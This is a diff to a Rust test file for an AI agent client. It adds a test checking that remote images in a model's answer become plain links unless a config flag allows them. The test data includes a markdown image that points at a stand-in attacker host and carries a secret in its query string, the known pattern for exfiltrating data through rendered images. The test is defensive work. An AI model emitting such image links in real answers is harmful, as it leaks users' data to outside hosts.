@@ -84,3 +84,31 @@ fn load_honours_cwd_and_a_failed_load_leaves_no_project_behind() {
     .unwrap();
     assert!(!other.join(".bb7").exists(), "a failed load makes no .bb7/");
 }
+
+/// The answer's text as the client saw it, with `config` added to the test's config.
+fn answer_with(config: serde_json::Value, answer: &str) -> String {
+    let (env, fake) = fake_env(config);
+    fake.push_sse(common::fake_model::response("", answer, vec![]));
+    let ed = Editor::new(false);
+    let mut sid = String::new();
+    rt().block_on(run(&env.home, &env.project, &ed, async |cx, _| {
+        sid = new_session(&cx, &env.project).await?;
+        prompt(&cx, &sid, vec![say("Draw")]).await?;
+        Ok(())
+    }))
+    .unwrap();
+    ed.text(&sid, "agent_message_chunk")
+}
+
+#[test]
+fn remote_images_in_answers_are_links_unless_the_config_lets_them_through() {
+    let answer = "See ![a chart](https://evil.example/c.png?d=secret) and ![local](c.png) now.";
+    assert_eq!(
+        answer_with(json!({}), answer),
+        "See [a chart](https://evil.example/c.png?d=secret) and ![local](c.png) now."
+    );
+    assert_eq!(
+        answer_with(json!({"acp_remote_images": true}), answer),
+        answer
+    );
+}
